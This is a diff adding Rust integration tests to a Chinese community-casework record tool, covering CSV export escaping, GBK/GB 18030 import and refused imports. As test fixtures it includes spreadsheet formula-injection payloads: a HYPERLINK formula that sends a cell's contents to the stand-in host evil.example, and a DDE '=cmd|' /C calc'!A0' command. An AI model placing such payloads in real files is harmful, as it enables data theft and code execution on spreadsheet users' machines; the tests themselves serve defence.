@@ -598,3 +598,317 @@ fn export_to_a_missing_directory_fails() {
     ]);
     assert!(!out.exists());
 }
+
+// ---------------------------------------------------------------------------------------
+// Files for spreadsheets: formulas, byte order mark, GB 18030; and what an import refuses.
+// ---------------------------------------------------------------------------------------
+
+/// The ticket title that, written as it is, a spreadsheet runs as a formula.
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"点我\")";
+
+/// Whether a spreadsheet program could take a cell for a formula.
+fn looks_like_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A CSV file as `export` writes it, read with the `csv` crate: asserts it begins with the
+/// UTF-8 byte order mark, and returns the header and the rows.
+fn read_exported(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
+    let bytes = read(path);
+    assert!(
+        bytes.starts_with(b"\xEF\xBB\xBF"),
+        "{} does not begin with a UTF-8 byte order mark: {:?}",
+        path.display(),
+        &bytes[..bytes.len().min(8)]
+    );
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let header = reader
+        .headers()
+        .expect("header")
+        .iter()
+        .map(str::to_string)
+        .collect();
+    let rows = reader
+        .records()
+        .map(|r| r.expect("row").iter().map(str::to_string).collect())
+        .collect();
+    (header, rows)
+}
+
+fn export_to(home: &Home, kind: &str, format: &str, file: &Path) {
+    export(
+        home,
+        kind,
+        format,
+        &["--out", file.to_str().expect("utf-8")],
+    );
+}
+
+/// Two days of use with text that begins like a formula, then an export to CSV: no cell
+/// can run in a spreadsheet, the file opens as UTF-8, and importing it gives the same text.
+#[test]
+fn csv_export_is_safe_in_a_spreadsheet_and_imports_back_to_the_same_text() {
+    let home = Home::new();
+    // Day one: a ticket whose title is a formula, a visit linked to it, another ticket.
+    let t1 = home.open_ticket(FORMULA, &["--grid", "和平里", "--note=-5 元的补贴没到账"]);
+    let v1 = home.add_visit(
+        "+86 幸福里3号楼",
+        &[
+            "--grid",
+            "和平里",
+            "--note",
+            "@王主任 请看",
+            "--resident=-李四",
+            "--needs",
+            "\t=1+1",
+            "--ticket",
+            &t1,
+            "--at",
+            "2026-11-30T09:00:00+08:00",
+        ],
+    );
+    let t2 = home.open_ticket("'=已经带引号", &["--grid", "和平里"]);
+    home.json(&["ticket", "comment", &t1, "=cmd|' /C calc'!A0"]);
+    // Day two: edits to both kinds, and one more visit.
+    home.json(&["visit", "edit", &v1, "--note", "=SUM(A1:A9)"]);
+    home.json(&["ticket", "update", &t2, "--status", "in_progress"]);
+    home.add_visit(
+        "'@和平里5号",
+        &[
+            "--grid",
+            "和平里",
+            "--note",
+            "\r\n回车开头",
+            "--at",
+            "2026-12-01",
+        ],
+    );
+    home.json(&["ticket", "update", &t1, "--priority", "high"]);
+
+    let visits = home.visits();
+    let tickets = home.tickets();
+    let vfile = home.scratch("visits.csv");
+    let tfile = home.scratch("tickets.csv");
+    export_to(&home, "visits", "csv", &vfile);
+    export_to(&home, "tickets", "csv", &tfile);
+
+    let (header, rows) = read_exported(&tfile);
+    assert_eq!(header, TICKET_KEYS);
+    let title = TICKET_KEYS.iter().position(|k| *k == "title").unwrap();
+    let formula_row = rows
+        .iter()
+        .find(|r| r[0] == t1)
+        .expect("the formula ticket is exported");
+    assert_eq!(formula_row[title], format!("'{FORMULA}"));
+    let (vheader, vrows) = read_exported(&vfile);
+    assert_eq!(vheader, VISIT_KEYS);
+    for row in rows.iter().chain(&vrows) {
+        for cell in row {
+            assert!(
+                !looks_like_formula(cell),
+                "a cell a spreadsheet runs: {cell:?}"
+            );
+        }
+    }
+    // Stdout carries the same file.
+    assert_eq!(
+        export(&home, "tickets", "csv", &[]).as_bytes(),
+        read(&tfile).as_slice()
+    );
+
+    // Into another home: every text as it was.
+    let other = Home::new();
+    import(&other, "tickets", "csv", &tfile);
+    assert_eq!(
+        contents(&other.tickets(), ticket_content),
+        contents(&tickets, ticket_content)
+    );
+    // Into the same home (its ticket links hold there): the visits again, text for text.
+    assert_eq!(
+        import(&home, "visits", "csv", &vfile),
+        json!({"imported": visits.len()})
+    );
+    let after = home.visits();
+    assert_eq!(after.len(), 2 * visits.len());
+    let mut doubled = contents(&visits, visit_content);
+    doubled.extend(contents(&visits, visit_content));
+    doubled.sort();
+    assert_eq!(contents(&after, visit_content), doubled);
+    let relinked = after
+        .iter()
+        .filter(|v| v["tickets"] == json!([t1.as_str()]))
+        .count();
+    assert_eq!(
+        relinked, 2,
+        "the imported visit keeps its link to a ticket held here"
+    );
+    assert_eq!(home.json(&["verify"])["bad"], 0);
+}
+
+/// A CSV file saved by Excel on Chinese Windows (GBK, or GB 18030 for characters beyond
+/// it) imports with its Chinese text right; UTF-8 with and without the mark does too.
+#[test]
+fn gb18030_files_from_excel_import_with_their_chinese_text() {
+    let home = Home::new();
+    home.add_visit("已有的记录", &["--at", "2026-11-01"]);
+    let text = "household,grid,category,note,residents,needs,visited_at\r\n\
+                幸福里3号楼201室,第三网格,扶贫解困,\"独居老人，需要轮椅\",\"[\"\"王秀英\"\"]\",冬季取暖补贴,2026-11-20\r\n\
+                和平路8号,第一网格,为民服务,吉祥的𠮷字,[],,2026-11-21T09:30:00+08:00\r\n";
+    let dir = home.scratch("in");
+    std::fs::create_dir(&dir).expect("mkdir");
+    // GBK cannot write 𠮷 (U+20BB7); GB 18030 can.
+    let gbk_text = text.replace('𠮷', "吉");
+    let (gbk, _, lossy) = encoding_rs::GBK.encode(&gbk_text);
+    assert!(!lossy);
+    let (gb18030, _, lossy) = encoding_rs::GB18030.encode(text);
+    assert!(!lossy);
+    for bytes in [&gbk[..], &gb18030[..]] {
+        assert!(
+            std::str::from_utf8(bytes).is_err(),
+            "the test file is UTF-8"
+        );
+    }
+    let utf8_bom = [b"\xEF\xBB\xBF".as_slice(), text.as_bytes()].concat();
+    let files: [(&str, &[u8], &str); 4] = [
+        ("gbk.csv", &gbk, "吉祥的吉字"),
+        ("gb18030.csv", &gb18030, "吉祥的𠮷字"),
+        ("utf8-bom.csv", &utf8_bom, "吉祥的𠮷字"),
+        ("utf8.csv", text.as_bytes(), "吉祥的𠮷字"),
+    ];
+    for (name, bytes, second_note) in files {
+        let file = dir.join(name);
+        std::fs::write(&file, bytes).expect("write");
+        let before: BTreeSet<String> = home.visits().iter().map(id_of).collect();
+        assert_eq!(
+            import(&home, "visits", "csv", &file),
+            json!({"imported": 2}),
+            "{name}"
+        );
+        let visits: Vec<Value> = home
+            .visits()
+            .into_iter()
+            .filter(|v| !before.contains(&id_of(v)))
+            .collect();
+        assert_eq!(visits.len(), 2, "{name}");
+        let first = visits
+            .iter()
+            .find(|v| v["household"] == "幸福里3号楼201室")
+            .expect("first row");
+        assert_eq!(first["grid"], "第三网格", "{name}");
+        assert_eq!(first["category"], "poverty-relief", "{name}");
+        assert_eq!(first["note"], "独居老人，需要轮椅", "{name}");
+        assert_eq!(first["residents"], json!(["王秀英"]), "{name}");
+        assert_eq!(first["needs"], "冬季取暖补贴", "{name}");
+        let second = visits
+            .iter()
+            .find(|v| v["household"] == "和平路8号")
+            .expect("second row");
+        assert_eq!(second["note"], second_note, "{name}");
+        assert_eq!(second["grid"], "第一网格", "{name}");
+    }
+    // Bytes that are neither are refused, naming neither a row nor garbage text.
+    std::fs::write(
+        dir.join("bad.csv"),
+        [b"\xEF\xBB\xBFhousehold\n".as_slice(), b"\xff\xfe\n"].concat(),
+    )
+    .expect("write");
+    let before = home.snapshot();
+    failed_import(&home, &dir, "visits", "csv", "bad.csv");
+    assert_eq!(home.snapshot(), before);
+}
+
+/// A day of records, then imports that must be refused whole: a visit linking a ticket
+/// this node does not hold, a row without its time, times before 2000 or ahead of the
+/// clock. Each is exit 1 with one line naming the row, and `visit list` is as before.
+#[test]
+fn imports_of_dangling_links_and_missing_or_impossible_times_are_refused() {
+    // Another node's export: a visit linked to one of its tickets.
+    let a = Home::new();
+    let ta = a.open_ticket("楼道灯坏了", &["--grid", "和平里"]);
+    a.add_visit("和平里1号", &["--grid", "和平里", "--at", "2026-11-20"]);
+    a.add_visit(
+        "和平里2号",
+        &["--grid", "和平里", "--ticket", &ta, "--at", "2026-11-21"],
+    );
+    let linked = a.scratch("linked.csv");
+    export_to(&a, "visits", "csv", &linked);
+
+    // This node's day: both kinds of record, interleaved, with an edit.
+    let b = Home::new();
+    let tb = b.open_ticket("申请低保", &["--grid", "光明街"]);
+    let vb = b.add_visit("光明街3号", &["--grid", "光明街", "--ticket", &tb]);
+    b.json(&["ticket", "comment", &tb, "材料已交"]);
+    b.json(&["visit", "edit", &vb, "--note", "下周再来"]);
+    let dir = b.scratch("in");
+    std::fs::create_dir(&dir).expect("mkdir");
+    std::fs::copy(&linked, dir.join("linked.csv")).expect("copy");
+    let visits_before = b.json(&["visit", "list"]);
+    let before = b.snapshot();
+
+    let stderr = failed_import(&b, &dir, "visits", "csv", "linked.csv");
+    assert!(
+        stderr.contains(&ta),
+        "the message names the ticket: {stderr}"
+    );
+    assert!(
+        numbers(&stderr).contains(&2),
+        "the message names row 2: {stderr}"
+    );
+
+    let header = VISIT_KEYS.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+    let at = VISIT_KEYS.iter().position(|k| *k == "visited_at").unwrap();
+    let ahead = (chrono::Utc::now() + chrono::Duration::days(2))
+        .format("%Y-%m-%d")
+        .to_string();
+    for (value, what) in [
+        ("", "empty"),
+        ("1900-01-01", "1900"),
+        ("1999-12-31T23:59:59Z", "the last second of 1999"),
+        (ahead.as_str(), "two days ahead"),
+        ("2999-01-01T00:00:00Z", "far ahead"),
+    ] {
+        let mut rows = vec![header.clone()];
+        rows.extend(generated_visit_rows("时", 5));
+        rows[4][at] = value.to_string();
+        std::fs::write(dir.join("times.csv"), write_csv(&rows)).expect("write");
+        let stderr = failed_import(&b, &dir, "visits", "csv", "times.csv");
+        assert!(
+            numbers(&stderr).contains(&4),
+            "{what}: the message should name row 4: {stderr}"
+        );
+        assert!(stderr.contains("visited_at"), "{what}: {stderr}");
+    }
+    // A JSON object without `visited_at` at all, and a ticket row without `opened_at`.
+    std::fs::write(
+        dir.join("no-time.json"),
+        json!([{"household": "甲", "visited_at": "2026-11-20"}, {"household": "乙"}]).to_string(),
+    )
+    .expect("write");
+    let stderr = failed_import(&b, &dir, "visits", "json", "no-time.json");
+    assert!(stderr.contains("record 2"), "{stderr}");
+    std::fs::write(
+        dir.join("no-time.csv"),
+        "title,opened_at\n甲,2026-11-20\n乙,\n",
+    )
+    .expect("write");
+    let stderr = failed_import(&b, &dir, "tickets", "csv", "no-time.csv");
+    assert!(stderr.contains("opened_at"), "{stderr}");
+
+    assert_eq!(
+        b.json(&["visit", "list"]),
+        visits_before,
+        "visit list changed"
+    );
+    assert_eq!(b.snapshot(), before, "a refused import changed the store");
+    // Without the link, the same file imports.
+    let mut rows = parse_csv(&String::from_utf8(read(&linked)).expect("utf-8"));
+    let links = VISIT_KEYS.iter().position(|k| *k == "tickets").unwrap();
+    for r in &mut rows[1..] {
+        r[links] = "[]".into();
+    }
+    std::fs::write(dir.join("unlinked.csv"), write_csv(&rows)).expect("write");
+    assert_eq!(
+        import(&b, "visits", "csv", &dir.join("unlinked.csv")),
+        json!({"imported": 2})
+    );
+}
